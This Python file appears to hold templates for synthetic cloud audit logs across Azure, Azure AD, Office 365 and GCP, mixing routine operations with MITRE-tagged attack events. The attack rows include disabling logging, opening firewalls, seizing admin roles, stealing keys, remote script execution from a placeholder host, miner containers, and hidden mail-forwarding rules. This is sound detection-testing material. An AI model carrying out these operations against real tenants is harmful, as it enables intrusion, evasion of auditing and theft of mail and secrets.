# ruff: noqa: E501
"""Operations of cloud services other than AWS, daily work and attacks; one pair of tables a service.

A row is the operation and, optionally, JSON of what it was given; `_…` keys steer the envelope in cloud.py.
"""
from __future__ import annotations

from .table import table

AZURE = table(r"""
# azure compute work
Microsoft.Compute/virtualMachines/«write|start/action|deallocate/action|restart/action|powerOff/action|read|extensions/write»
Microsoft.Compute/«disks|snapshots|images|availabilitySets|virtualMachineScaleSets|galleries/images/versions»/«write|read|delete»
Microsoft.Compute/virtualMachines/extensions/write {"extension":"«AzureMonitorWindowsAgent|MicrosoftMonitoringAgent|IaaSAntimalware|AADLoginForWindows|DependencyAgentLinux»"}
Microsoft.ContainerService/managedClusters/«read|write|listClusterUserCredential/action|agentPools/write»
Microsoft.ContainerRegistry/registries/«read|write|pull/read|push/write|listCredentials/action»
# azure network work
Microsoft.Network/«virtualNetworks/subnets/write|publicIPAddresses/write|loadBalancers/write|networkInterfaces/write|dnsZones/A/write|privateEndpoints/write|applicationGateways/write|virtualNetworks/read|networkInterfaces/delete|publicIPAddresses/delete|routeTables/write»
Microsoft.Network/networkSecurityGroups/securityRules/write {"access":"Allow","direction":"Inbound","destinationPortRange":"«443|80|8443»","sourceAddressPrefix":"«10.0.0.0/8|AzureLoadBalancer|VirtualNetwork|Internet»"}
Microsoft.Network/networkSecurityGroups/securityRules/write {"access":"Deny","direction":"Inbound","destinationPortRange":"*","sourceAddressPrefix":"*"}
# azure platform work
Microsoft.Resources/deployments/«write|validate/action|delete|read»
Microsoft.Resources/«subscriptions/resourceGroups/write|tags/write|subscriptions/resourceGroups/read|links/write|checkPolicyCompliance/read»
Microsoft.Storage/storageAccounts/«write|read|listKeys/action|blobServices/write|blobServices/containers/write|fileServices/shares/write|managementPolicies/write|listAccountSas/action»
Microsoft.Web/«sites/write|sites/restart/action|sites/config/write|serverfarms/write|sites/slots/slotsswap/action|sites/publishxml/action|sites/functions/write|certificates/write|sites/sync/action»
Microsoft.Sql/servers/«databases/write|read|databases/pause/action|elasticPools/write|administrators/write|databases/backupShortTermRetentionPolicies/write»
Microsoft.KeyVault/vaults/«read|write|secrets/write|deploy/action|keys/read»
Microsoft.Insights/«alertRules/write|metricAlerts/write|components/write|diagnosticSettings/write|activityLogAlerts/write|actionGroups/write|autoscaleSettings/write|scheduledQueryRules/write|dataCollectionRules/write»
Microsoft.Authorization/policyAssignments/write {"policy":"«allowed-locations|require-tag|audit-vm-managed-disks»"}
Microsoft.Authorization/roleAssignments/write {"role":"«Reader|Monitoring Reader|Storage Blob Data Reader|AcrPull|Virtual Machine User Login»","principalType":"«User|ServicePrincipal|Group»"}
Microsoft.RecoveryServices/vaults/«backupJobs/read|backupFabrics/protectionContainers/protectedItems/backup/action|write|backupPolicies/write|backupFabrics/backupProtectionIntent/write»
Microsoft.Automation/automationAccounts/«jobs/write|runbooks/read|schedules/write|read»
Microsoft.«Logic/workflows/run/action|Logic/workflows/write|ServiceBus/namespaces/write|EventHub/namespaces/write|Cache/redis/write|DocumentDB/databaseAccounts/listKeys/action|DocumentDB/databaseAccounts/write|Databricks/workspaces/write|CognitiveServices/accounts/write|OperationalInsights/workspaces/query/action|OperationalInsights/workspaces/sharedKeys/action|Advisor/generateRecommendations/action|Security/assessments/write|PolicyInsights/remediations/write|ManagedIdentity/userAssignedIdentities/write|Maintenance/configurationAssignments/write|Cdn/profiles/endpoints/purge/action|ApiManagement/service/write|DataFactory/factories/pipelines/write|Synapse/workspaces/write|Security/pricings/write»
# azure sensitive calls in their place
Microsoft.Insights/«diagnosticSettings|metricAlerts|actionGroups»/delete {"resourceGroup":"rg-pr-«num:1:900»"}
Microsoft.Compute/virtualMachines/delete {"resourceGroup":"rg-dev-«word»"}
Microsoft.Resources/subscriptions/resourceGroups/delete {"resourceGroup":"rg-pr-«num:1:900»"}
Microsoft.Network/networkSecurityGroups/securityRules/delete {"rule":"allow-«tech»-temp"}
Microsoft.Compute/virtualMachines/runCommand/action {"script":"«Get-Service|df -h|systemctl restart nginx»","commandId":"«RunPowerShellScript|RunShellScript»"}
Microsoft.KeyVault/vaults/accessPolicies/write {"accessPolicies":[{"objectId":"«guid»","permissions":{"secrets":["get","list"]}}]}
Microsoft.Security/pricings/write {"pricingTier":"Standard"}
Microsoft.Authorization/locks/write {"level":"CanNotDelete"}
Microsoft.Storage/storageAccounts/write {"allowBlobPublicAccess":false,"minimumTlsVersion":"TLS1_2","supportsHttpsTrafficOnly":true}
Microsoft.Sql/servers/firewallRules/write {"startIpAddress":"«pub»","endIpAddress":"«pub»","name":"office"}
Microsoft.RecoveryServices/vaults/backupconfig/write {"softDeleteFeatureState":"Enabled"}
Microsoft.Storage/storageAccounts/regenerateKey/action {"keyName":"key«num:1:2»","reason":"rotation"}
# T1562.008 azure logging removed
Microsoft.Insights/diagnosticSettings/delete
Microsoft.Insights/«activityLogAlerts|alertRules|actionGroups|logProfiles|metricAlerts|scheduledQueryRules|dataCollectionRules»/delete
Microsoft.EventHub/namespaces/«delete|eventhubs/delete|authorizationRules/listKeys/action»
Microsoft.OperationalInsights/workspaces/«delete|dataSources/delete|purge/action|tables/delete»
Microsoft.SecurityInsights/«alertRules/delete|dataConnectors/delete|automationRules/delete|onboardingStates/delete»
Microsoft.Security/«pricings/write|autoProvisioningSettings/write|alertsSuppressionRules/write|securityContacts/delete» {"pricingTier":"Free","autoProvision":"Off"}
Microsoft.Network/networkWatchers/«delete|flowLogs/delete»
Microsoft.ContainerService/managedClusters/«diagnosticSettings/delete|eventGridFilters/delete»
# T1562.007 azure firewall opened
Microsoft.Network/networkSecurityGroups/securityRules/write {"access":"Allow","direction":"Inbound","destinationPortRange":"«22|3389|*|1433|445|5985»","sourceAddressPrefix":"«*|0.0.0.0/0|Internet»","priority":100}
Microsoft.Network/«azureFirewalls|firewallPolicies|frontDoorWebApplicationFirewallPolicies|applicationGatewayWebApplicationFirewallPolicies|networkSecurityGroups|networkSecurityGroups/securityRules|ddosProtectionPlans|firewallPolicies/ruleCollectionGroups»/delete
Microsoft.Sql/servers/firewallRules/write {"startIpAddress":"0.0.0.0","endIpAddress":"255.255.255.255"}
Microsoft.Storage/storageAccounts/write {"allowBlobPublicAccess":true,"networkAcls":{"defaultAction":"Allow"},"minimumTlsVersion":"TLS1_0"}
Microsoft.Storage/storageAccounts/blobServices/containers/write {"publicAccess":"«Container|Blob»"}
Microsoft.KeyVault/vaults/write {"networkAcls":{"defaultAction":"Allow","bypass":"None"},"enablePurgeProtection":false}
# T1098.003 azure rights taken
Microsoft.Authorization/roleAssignments/write {"role":"«Owner|User Access Administrator|Contributor»","principalType":"«User|ServicePrincipal»","scope":"«/|/subscriptions/«subscription»»"}
Microsoft.Authorization/elevateAccess/action
Microsoft.Authorization/«policyAssignments|locks|policyDefinitions|roleDefinitions|policyExemptions»/delete
Microsoft.Authorization/policyExemptions/write
Microsoft.Authorization/roleDefinitions/write {"permissions":[{"actions":["*"]}],"assignableScopes":["/"]}
Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials/write {"issuer":"https://«domain»","subject":"«letters:8»"}
# T1552 azure secrets taken
Microsoft.Storage/storageAccounts/«listKeys/action|regenerateKey/action|listAccountSas/action» {"_agent":"odd"}
Microsoft.KeyVault/vaults/«accessPolicies/write|secrets/backup/action|keys/backup/action|delete|purge/action|certificates/backup/action» {"accessPolicies":[{"permissions":{"secrets":["all"],"keys":["all"]}}]}
Microsoft.Compute/«snapshots|disks»/beginGetAccess/action {"access":"Read","durationInSeconds":«num:86400:864000»}
Microsoft.Compute/restorePointCollections/restorePoints/retrieveSasUris/action
Microsoft.Automation/automationAccounts/«listKeys/action|credentials/read|webhooks/write» {"_agent":"odd"}
Microsoft.ContainerService/managedClusters/«listClusterAdminCredential/action|accessProfiles/listCredential/action»
Microsoft.Web/sites/«config/list/action|publishxml/action|host/listkeys/action» {"_agent":"odd"}
# T1059 azure commands on machines
Microsoft.Compute/virtualMachines/«runCommand/action|runCommands/write|extensions/write|assessPatches/action» {"_agent":"odd","extension":"«CustomScriptExtension|CustomScript|VMAccessForLinux|VMAccessAgent|RunCommandLinux»","fileUris":["http://«peer»/«letters:4».«ps1|sh»"]}
Microsoft.Automation/automationAccounts/«runbooks/draft/write|runbooks/publish/action|webhooks/action|hybridRunbookWorkerGroups/write» {"runbook":"«letters:8»","_agent":"odd"}
Microsoft.CloudShell/consoles/write {"_agent":"odd"}
Microsoft.ContainerInstance/containerGroups/write {"image":"«letters:6»/«xmrig|miner|«letters:5»»:latest"}
Microsoft.Compute/virtualMachines/write {"vmSize":"«Standard_NC24ads_A100_v4|Standard_ND96asr_v4|Standard_F72s_v2|Standard_NV48s_v3»","count":«num:20:200»}
Microsoft.Kubernetes/connectedClusters/listClusterUserCredential/action {"_agent":"odd"}
# T1485 azure destruction
Microsoft.RecoveryServices/vaults/«delete|backupFabrics/protectionContainers/protectedItems/delete|backupconfig/write|backupPolicies/delete» {"softDeleteFeatureState":"Disabled"}
Microsoft.Compute/«restorePointCollections|snapshots|disks|virtualMachines|virtualMachineScaleSets»/delete {"force":true,"_agent":"odd"}
Microsoft.Resources/subscriptions/resourceGroups/delete {"_agent":"odd","resourceGroup":"«prod|backup|rg-prod-«word»»"}
Microsoft.Storage/storageAccounts/«delete|blobServices/containers/delete|blobServices/containers/immutabilityPolicies/delete» {"_agent":"odd"}
Microsoft.Sql/servers/«delete|databases/delete|auditingSettings/write|securityAlertPolicies/write» {"state":"Disabled"}
Microsoft.Subscription/«cancel|rename»/action
Microsoft.Network/«virtualNetworks|vpnGateways|virtualHubs|dnsZones|expressRouteCircuits»/delete {"_agent":"odd"}
Microsoft.«Web/sites|ServiceBus/namespaces|EventHub/namespaces|DocumentDB/databaseAccounts|ContainerService/managedClusters|KeyVault/vaults|ContainerRegistry/registries»/delete {"_agent":"odd"}
""")

AAD_AUDIT = table(r"""
# aad directory work
Update user {"modified":["«Department|JobTitle|MobilePhone|Manager|StrongAuthenticationUserDetails|OtherMail|UsageLocation»"]}
Add user {"modified":["AccountEnabled","UserPrincipalName","DisplayName"]}
«Change user license|Reset password (self-service)|Change password (self-service)|User registered security info|User started security info registration|Update device|Register device|Add registered owner to device|Delete device|Self-service password reset flow activity progress|Assign license to user|Get passwordless sign in settings»
«Add member to group|Remove member from group|Update group|Add group|Add owner to group|Delete group» {"group":"«Word»-«dept»"}
«Add app role assignment to service principal|Add service principal|Update application|Update service principal|Consent to application|Add delegated permission grant» {"app":"«Salesforce|Zoom|Slack|ServiceNow|Miro|Adobe Creative Cloud|«Word»»","permissions":"«User.Read|openid profile email|User.Read offline_access»","isAdminConsent":"«True|False»"}
Update application – Certificates and secrets management {"app":"«Word» «Word»","actor":"app-owner","keyCount":1}
Add member to role completed (PIM activation) {"role":"«Helpdesk Administrator|Reports Reader|User Administrator|Global Reader|Intune Administrator»","justification":"«ticket INC«num:10000:99999»|onboarding «first» «last»|monthly review»"}
«Update policy|Update conditional access policy|Add named location» {"policy":"«Require MFA for admins|Block legacy authentication|CA00«num:1:9» - Compliant devices»","state":"enabled"}
«Invite external user|Redeem external user invite|Create company settings» {"inviter":"«user»"}
«Disable account|Delete user|Hard delete user|Restore user|Enable account» {"reason":"leaver"}
# T1098 aad credentials and rights
Add service principal credentials {"app":"«Microsoft Exchange Online|Office 365|«Word»»","keyUsage":"Verify","_agent":"odd"}
Update application – Certificates and secrets management {"app":"«Word»","keyType":"«AsymmetricX509Cert|Password»","endDate":"2299-12-31T00:00:00Z","_agent":"odd"}
Add member to role {"role":"«Global Administrator|Privileged Role Administrator|Application Administrator|Exchange Administrator|Cloud Application Administrator|Hybrid Identity Administrator|Company Administrator»","_agent":"«odd|none»"}
Add eligible member to role {"role":"Global Administrator","expiration":"permanent"}
Add app role assignment to service principal {"app":"«letters:7»","permissions":"«RoleManagement.ReadWrite.Directory|AppRoleAssignment.ReadWrite.All|Directory.ReadWrite.All|Mail.ReadWrite|full_access_as_app|Application.ReadWrite.All|Sites.FullControl.All»"}
Consent to application {"app":"«letters:6»«| Document Viewer| Upgrade|365»","permissions":"«Mail.Read Mail.Send offline_access Files.ReadWrite.All|full_access_as_user EWS.AccessAsUser.All|MailboxSettings.ReadWrite Contacts.Read Mail.ReadWrite»","isAdminConsent":"«True|False»","publisher":"unverified"}
Add owner to «application|service principal» {"app":"«Word» Admin","target":"«other»","_agent":"odd"}
«Reset user password|Reset password (by admin)» {"target":"«admin»","_agent":"odd"}
Update user {"modified":["AlternativeSecurityId","ImmutableId","StrongAuthenticationPhoneAppDetail"],"_agent":"odd"}
# T1484.002 aad federation and policy tampering
«Set federation settings on domain|Set domain authentication|Add unverified domain|Verify domain|Add partner to company» {"domain":"«letters:8».«onmicrosoft.com|com»","authentication":"Federated","issuerUri":"http://any.sts/«hex:8»"}
«Delete conditional access policy|Update conditional access policy|Disable Strong Authentication|Delete named location|Update named location» {"policy":"«Require MFA for admins|Block legacy authentication»","state":"«disabled|enabledForReportingButNotEnforced»","excludeUsers":["«user»"]}
«Disable Desktop Sso|Disable password writeback for directory|Update authorization policy|Update cross-tenant access setting|Set Company Information|Set DirSyncEnabled flag» {"allowInvitesFrom":"everyone","guestUserRole":"Member","_agent":"odd"}
Disable Strong Authentication {"target":"««other»|«admin»»"}
«Admin deleted security info|Admin registered security info|User registered all required security info» {"method":"phone","target":"«admin»","_agent":"odd"}
Create Temporary Access Pass {"target":"«admin»","isUsableOnce":"False","lifetimeInMinutes":"«num:480:43200»"}
""")

SIGN_IN = table(r"""
# aad daily sign in
0 {"app":"«Office 365 Exchange Online|Microsoft Teams|OfficeHome|Azure Portal|SharePoint Online|Windows Sign In|Microsoft Office|Salesforce|My Apps|Outlook Mobile|OneDrive SyncEngine|Power BI Service|Microsoft Authentication Broker»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","mfa":"«multiFactorAuthentication|singleFactorAuthentication»"}
50126 {"app":"«OfficeHome|Microsoft Office|Azure Portal»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","reason":"Invalid username or password"}
«50140|50074|50058|50076|16000|65001|50097|50125|50055|500121» {"app":"«OfficeHome|Microsoft Teams|Microsoft Office»","client":"Browser","risk":"none","reason":"«Interrupt: keep me signed in|Strong Authentication is required|session information is not sufficient|User needs to consent|Device authentication is required|password reset or password registration entry|password expired|Authentication failed during strong authentication request»"}
53003 {"app":"«Microsoft Office|Exchange ActiveSync»","client":"Mobile Apps and Desktop clients","risk":"none","reason":"Access has been blocked by Conditional Access policies"}
0 {"app":"«Azure Active Directory PowerShell|Microsoft Azure CLI|Microsoft Graph Command Line Tools|Visual Studio»","client":"Mobile Apps and Desktop clients","risk":"none","mfa":"multiFactorAuthentication","device":"compliant"}
0 {"app":"«Word» «Backup|Sync|Monitoring»","client":"service principal","risk":"none","mfa":"singleFactorAuthentication"}
# T1110.003 aad password guessing
«50126|50053|50034|50056|50055|50057» {"app":"«Office 365 Exchange Online|Azure Active Directory PowerShell|Microsoft Office|Office 365 SharePoint Online»","client":"«IMAP4|POP3|Authenticated SMTP|Exchange Web Services|Other clients|Autodiscover|Exchange ActiveSync|MAPI Over HTTP»","risk":"«none|medium|high»","reason":"«Invalid username or password|Account is locked because user tried to sign in too many times|The user account does not exist in the tenant directory»","_agent":"«odd|legacy»"}
50126 {"app":"«Azure Active Directory PowerShell|Microsoft Azure CLI|Microsoft Teams»","client":"Mobile Apps and Desktop clients","risk":"«medium|high»","reason":"Invalid username or password","_agent":"odd"}
50053 {"app":"Microsoft Office","client":"Browser","risk":"high","reason":"Sign-in was blocked because it came from an IP address with malicious activity"}
# T1078.004 aad stolen account
0 {"app":"«Office 365 Exchange Online|Office 365 SharePoint Online»","client":"«IMAP4|POP3|Authenticated SMTP|Other clients|Exchange Web Services»","risk":"«high|medium»","riskTypes":["«unfamiliarFeatures|passwordSpray|leakedCredentials|maliciousIPAddress|anonymizedIPAddress»"],"mfa":"singleFactorAuthentication"}
0 {"app":"«OfficeHome|Azure Portal|Microsoft Graph|Azure Active Directory PowerShell»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"high","riskTypes":["«anonymizedIPAddress|unlikelyTravel|impossibleTravel|anomalousToken|attackerinTheMiddle|suspiciousBrowser|tokenIssuerAnomaly|mcasImpossibleTravel|nationStateIP»"],"mfa":"«singleFactorAuthentication|multiFactorAuthentication»"}
0 {"app":"«Microsoft Authentication Broker|Microsoft Azure CLI|Azure Active Directory PowerShell|Microsoft Office»","client":"Mobile Apps and Desktop clients","risk":"«none|medium»","protocol":"«deviceCode|ropc»","mfa":"singleFactorAuthentication","_agent":"odd"}
500121 {"app":"«OfficeHome|Azure Portal»","client":"Browser","risk":"«medium|high»","reason":"«MFA denied; user declined the authentication|MFA denied; user did not respond to mobile app notification|Fraud code entered»","riskTypes":["userReportedSuspiciousActivity"]}
""")

O365 = table(r"""
# o365 mail work
MailItemsAccessed {"MailAccessType":"«Bind|Sync»","IsThrottled":"False"}
«Send|SendAs|SendOnBehalf|Create|Update|MoveToDeletedItems|SoftDelete|HardDelete|Move|MailboxLogin» {"Subject":"«Re: |WG: |Fwd: |»«Word» «native»","folder":"\\«Inbox|Sent Items|Calendar|Drafts»"}
New-InboxRule {"Name":"«Newsletter|«Word»|«Last»»","MoveToFolder":"«Word»","From":"«first».«last»@«sitedomain»","StopProcessingRules":"True"}
Set-InboxRule {"Name":"«Word»","SubjectContainsWords":"«word»","MarkAsRead":"True","MoveToFolder":"«Word»"}
Set-MailboxAutoReplyConfiguration {"AutoReplyState":"Scheduled","InternalMessage":"Out of office"}
Add-MailboxPermission {"Identity":"«dept»","User":"«other»","AccessRights":"ReadPermission"}
«Set-Mailbox|New-Mailbox|Set-MailboxPlan|Enable-Mailbox|Set-CASMailbox|Set-User|New-DistributionGroup|Add-DistributionGroupMember|Set-CalendarProcessing|Set-MailUser|Set-UnifiedGroup|Update-RoleGroupMember|Set-RetentionCompliancePolicy|New-MoveRequest|Set-TransportConfig|Install-DataClassificationConfig|Set-ExchangeAssistanceConfig|New-ExchangeAssistanceConfig|Set-RecipientEnforcementProvisioningPolicy|Set-TenantObjectVersion|Set-AdminAuditLogConfig» {"Identity":"«person»","«HiddenFromAddressListsEnabled|ProhibitSendQuota|RetainDeletedItemsFor|DisplayName|LitigationHoldEnabled|ArchiveStatus|AuditEnabled|UnifiedAuditLogIngestionEnabled»":"«True|50 GB|14.00:00:00|«First» «Last»»"}
# o365 files and teams work
«FileAccessed|FileModified|FileUploaded|FileDownloaded|FilePreviewed|FileSyncDownloadedFull|FileSyncUploadedFull|FileCheckedIn|FileRenamed|FileMoved|FileRecycled|FolderCreated|PageViewed|FileModifiedExtended|FileAccessedExtended|SearchQueryPerformed|ListViewed|ListItemUpdated» {"SourceFileName":"«file»","SiteUrl":"https://«site».sharepoint.com/sites/«word»/"}
«SharingSet|SharingInvitationCreated|SecureLinkCreated|AddedToSecureLink|CompanyLinkCreated|CompanyLinkUsed|SharingInvitationAccepted|AccessRequestCreated» {"SourceFileName":"«file»","TargetUserOrGroupType":"Member","TargetUserOrGroupName":"«other»@«sitedomain»"}
«TeamsSessionStarted|MessageSent|ChannelAdded|MemberAdded|TeamCreated|MeetingParticipantDetail|ChatCreated|TabAdded|MessageRead|AppInstalled|BotAddedToTeam» {"TeamName":"«Word» «dept»"}
«UserLoggedIn|UserLoginFailed|Update user.|Change user license.|Add member to group.|Add user.|Update device.|Update StsRefreshTokenValidFrom Timestamp.|Reset user password.|Set force change user password.» {"ResultStatusDetail":"Success","UserAgent":"«browser»"}
«ViewedReport|ExportReport|CreateFlow|LaunchPowerApp|ViewDashboard|CreateForm|SubmitResponse|TaskCreated|ViewTile|GetGroups|RefreshDataset» {"ObjectName":"«Word» «word»"}
«SearchCreated|SearchStarted|CaseAdded|AlertTriggered|AlertEntityGenerated|ComplianceSettingChanged» {"Case":"«Word»","Category":"DataGovernance"}
# o365 administration in its place
Set-Mailbox {"Identity":"«person»","ForwardingSmtpAddress":"smtp:«other»@«sitedomain»","DeliverToMailboxAndForward":"True"}
New-InboxRule {"Name":"Vacation «Last»","ForwardTo":"«other»@«sitedomain»","From":"«first».«last»@«domain»"}
New-TransportRule {"Name":"External mail banner","ApplyHtmlDisclaimerText":"This message comes from outside","FromScope":"NotInOrganization"}
«Set-MalwareFilterPolicy|Set-HostedContentFilterPolicy|Set-AntiPhishPolicy|Set-SafeLinksPolicy» {"Identity":"Default","EnableFileFilter":"True","ZapEnabled":"True","EnableMailboxIntelligence":"True"}
Set-AdminAuditLogConfig {"UnifiedAuditLogIngestionEnabled":"True"}
Remove-InboxRule {"Identity":"«Word»"}
Add-MailboxPermission {"Identity":"«dept»-shared","User":"«other»","AccessRights":"FullAccess","AutoMapping":"True"}
New-ComplianceSearch {"Name":"HR case «num:100:999»","ContentMatchQuery":"subject:\"«Word» «word»\""}
Set-CASMailbox {"Identity":"«person»","ImapEnabled":"False","PopEnabled":"False"}
AnonymousLinkRemoved {"SourceFileName":"«file»"}
# T1564.008 o365 hiding and forwarding rules
New-InboxRule {"Name":"«.|..|a|,|«letters:1:2»|;|sy»","«DeleteMessage|MarkAsRead»":"True","SubjectOrBodyContainsWords":"«invoice;payment;bank|password;phish;hack;security|wire;transfer;IBAN|fraud;virus;helpdesk»","MoveToFolder":"«RSS Feeds|RSS Subscriptions|Conversation History|Archive|Deleted Items|Notes»"}
«New-InboxRule|Set-InboxRule|UpdateInboxRules» {"Name":"«.|«letters:2»|fwd»","ForwardTo":"«letters:8»«num:10:99»@«gmail.com|protonmail.com|outlook.com|mail.ru|«domain»»","«StopProcessingRules|DeleteMessage»":"True"}
Set-Mailbox {"Identity":"«person»","ForwardingSmtpAddress":"smtp:«letters:8»@«gmail.com|proton.me|«domain»»","DeliverToMailboxAndForward":"«True|False»"}
New-TransportRule {"Name":"«letters:5»","BlindCopyTo":"«letters:7»@«domain»","SetSCL":"-1"}
Set-RemoteDomain {"Identity":"Default","AutoForwardEnabled":"True"}
# T1098.002 o365 mailbox rights
Add-MailboxPermission {"Identity":"««other»|«admin»|ceo»","User":"«user»","AccessRights":"FullAccess","InheritanceType":"All","AutoMapping":"False"}
Add-RecipientPermission {"Identity":"«other»","Trustee":"«user»","AccessRights":"SendAs"}
Add-MailboxFolderPermission {"Identity":"«person»:\\Inbox","User":"«Default|Anonymous»","AccessRights":"«Owner|Reviewer»"}
New-ManagementRoleAssignment {"Role":"«ApplicationImpersonation|Mailbox Import Export|Mailbox Search»","User":"«user»"}
Update-RoleGroupMember {"Identity":"Organization Management","Members":"«user»","_agent":"odd"}
Set-CASMailbox {"Identity":"«person»","ImapEnabled":"True","PopEnabled":"True","SmtpClientAuthenticationDisabled":"False","_agent":"odd"}
# T1562.008 o365 audit and protection disabled
Set-AdminAuditLogConfig {"UnifiedAuditLogIngestionEnabled":"False"}
Set-Mailbox {"Identity":"«person|«admin»»","AuditEnabled":"False"}
Set-MailboxAuditBypassAssociation {"Identity":"«user»","AuditBypassEnabled":"True"}
«Disable-SafeLinksRule|Remove-SafeLinksPolicy|Disable-SafeAttachmentRule|Remove-AntiPhishPolicy|Disable-AntiPhishRule|Remove-MalwareFilterRule|Disable-TransportRule|Remove-TransportRule|Disable-DlpPolicy|Remove-DlpCompliancePolicy|Remove-HostedContentFilterPolicy|Remove-UnifiedAuditLogRetentionPolicy|Remove-RetentionCompliancePolicy|Set-AtpPolicyForO365» {"Identity":"«Word»","Confirm":"False","EnableATPForSPOTeamsODB":"False"}
Set-MalwareFilterPolicy {"Identity":"Default","EnableFileFilter":"False","ZapEnabled":"False"}
Set-HostedConnectionFilterPolicy {"Identity":"Default","IPAllowList":"«pub»/32"}
# T1114.002 o365 mail and data theft
New-MailboxExportRequest {"Mailbox":"«other»","FilePath":"\\\\127.0.0.1\\c$\\«word».pst"}
New-ComplianceSearchAction {"SearchName":"«letters:5»","Export":"True","_agent":"odd"}
«SearchCreated|SearchExported|SearchExportDownloaded» {"Query":"«password OR credentials OR vpn|wire transfer OR invoice|\"api key\" OR secret»","ExchangeLocations":"All"}
MailItemsAccessed {"MailAccessType":"Sync","IsThrottled":"True","ClientInfoString":"«Client=REST;;Client=python-requests|Client=POP3/IMAP4;Protocol=IMAP4|Client=WebServices;ExchangeServicesClient/0.0.0.0»","_agent":"odd"}
«AnonymousLinkCreated|AnonymousLinkUpdated|SharingSet» {"SourceFileName":"«passwords|Payroll|customers|board-minutes».xlsx","TargetUserOrGroupType":"Guest","TargetUserOrGroupName":"anonymous"}
«FileDownloaded|FileSyncDownloadedFull|FileAccessed» {"SourceFileName":"«passwords.xlsx|vpn config.zip|KeePass.kdbx|id_rsa|customer export.csv|azure credentials.txt»","_agent":"odd"}
FileMalwareDetected {"SourceFileName":"«file».exe","VirusVendor":"Default","VirusInfo":"Trojan:Win32/«Word».A"}
FileRenamed {"SourceFileName":"«file»","DestinationFileName":"«file».«locked|encrypted|lockbit|«letters:5»»"}
# T1528 o365 app consent and trust
«Consent to application.|Add OAuth2PermissionGrant.|Add delegated permission grant.» {"app":"«letters:6»","scope":"«Mail.Read Mail.Send offline_access|full_access_as_user|Files.ReadWrite.All»","IsAdminConsent":"«True|False»"}
«Add service principal credentials.|Add app role assignment to service principal.|Set domain authentication.|Set federation settings on domain.|Add member to role.|Disable Strong Authentication.|Add unverified domain.» {"target":"«Company Administrator|«Word»|«letters:8».onmicrosoft.com»","_agent":"odd"}
UserLoggedIn {"UserAgent":"«python-requests/2.28|axios/1.7.«num:2:9»|Mozilla/5.0 (X11; Linux x86_64; rv:«num:60:99».0) kali|BAV2ROPC|CBAInPROD»","ErrorNumber":"0","RequestType":"«OAuth2:Token|Cmsi:Cmsi»"}
UserLoginFailed {"UserAgent":"«BAV2ROPC|CBAInPROD|python-requests/2.25.1|fasthttp»","LogonError":"«InvalidUserNameOrPassword|IdsLocked|UserAccountNotFound»"}
AtpDetection {"Category":"«Phish|Malware»","Verdict":"«Malicious URL clicked|ZAP removed»"}
""")

GCP = table(r"""
# gcp work
v1.compute.instances.«insert|list|get|start|stop|delete|setMetadata|setLabels|attachDisk|setTags|aggregatedList|getSerialPortOutput» {"service":"compute"}
«beta|v1».compute.«disks.createSnapshot|snapshots.list|firewalls.list|networks.get|instanceGroupManagers.resize|instanceTemplates.insert|addresses.insert|routes.list|images.list|backendServices.update|healthChecks.insert|subnetworks.get|zones.list|projects.get|sslCertificates.list» {"service":"compute"}
v1.compute.firewalls.insert {"service":"compute","sourceRanges":["10.«num:0:255».0.0/16"],"alloweds":[{"IPProtocol":"tcp","ports":["«443|8080|5432»"]}]}
storage.«objects.get|objects.create|objects.list|buckets.get|buckets.list|objects.update|buckets.create|buckets.getIamPolicy|objects.delete» {"service":"storage"}
google.container.v1.ClusterManager.«GetCluster|ListClusters|UpdateNodePool|ListNodePools|CreateNodePool|GetOperation|SetNodePoolSize» {"service":"container"}
google.cloud.bigquery.v2.«JobService.InsertJob|TableDataService.List|DatasetService.GetDataset|JobService.GetQueryResults|TableService.InsertTable|DatasetService.ListDatasets» {"service":"bigquery"}
google.iam.admin.v1.«ListServiceAccounts|GetServiceAccount|ListRoles|GetRole|QueryGrantableRoles|ListServiceAccountKeys|CreateServiceAccount» {"service":"iam"}
google.cloud.secretmanager.v1.SecretManagerService.«AccessSecretVersion|ListSecrets|AddSecretVersion|GetSecret» {"service":"secretmanager"}
google.logging.v2.«LoggingServiceV2.ListLogEntries|ConfigServiceV2.ListSinks|MetricsServiceV2.CreateLogMetric|ConfigServiceV2.CreateSink|ConfigServiceV2.GetBucket» {"service":"logging"}
google.devtools.«cloudbuild.v1.CloudBuild.CreateBuild|artifactregistry.v1.ArtifactRegistry.ListRepositories|cloudbuild.v1.CloudBuild.ListBuilds» {"service":"cloudbuild"}
google.cloud.«run.v1.Services.ReplaceService|functions.v1.CloudFunctionsService.UpdateFunction|functions.v1.CloudFunctionsService.CallFunction|sql.v1beta4.SqlInstancesService.Get|pubsub.v1.Publisher.CreateTopic|scheduler.v1.CloudScheduler.RunJob|dataproc.v1.JobController.SubmitJob|resourcemanager.v3.Projects.GetProject|kms.v1.KeyManagementService.ListKeyRings|dns.v1.ResourceRecordSets.Create|monitoring.v3.AlertPolicyService.CreateAlertPolicy|oslogin.v1.OsLoginService.GetLoginProfile|redis.v1.CloudRedis.GetInstance|aiplatform.v1.PredictionService.Predict|asset.v1.AssetService.SearchAllResources» {"service":"cloud"}
SetIamPolicy {"service":"cloudresourcemanager","bindingDeltas":[{"action":"ADD","role":"roles/«viewer|logging.viewer|storage.objectViewer|monitoring.viewer|run.invoker|bigquery.dataViewer»","member":"«user|group|serviceAccount»:«person»@«sitedomain»"}]}
google.login.LoginService.«loginSuccess|loginVerification|logout» {"service":"login"}
cloudsql.instances.«connect|backup|query» {"service":"cloudsql"}
# gcp sensitive calls in their place
google.logging.v2.ConfigServiceV2.UpdateSink {"service":"logging","sinkName":"projects/«project»/sinks/archive","filter":"","disabled":false}
google.iam.admin.v1.«DeleteServiceAccountKey|DisableServiceAccount|PatchServiceAccount» {"service":"iam","name":"projects/-/serviceAccounts/«word»@«project».iam.gserviceaccount.com"}
GenerateAccessToken {"service":"iamcredentials","name":"projects/-/serviceAccounts/ci@«project».iam.gserviceaccount.com","lifetime":"3600s"}
storage.setIamPermissions {"service":"storage","bindingDeltas":[{"action":"«ADD|REMOVE»","role":"roles/storage.objectViewer","member":"serviceAccount:«word»@«project».iam.gserviceaccount.com"}]}
v1.compute.firewalls.«delete|patch» {"service":"compute","name":"pr-«num:1:900»","sourceRanges":["10.«num:0:255».0.0/16"]}
v1.compute.instances.setMetadata {"service":"compute","metadata":{"items":[{"key":"enable-oslogin","value":"TRUE"}]}}
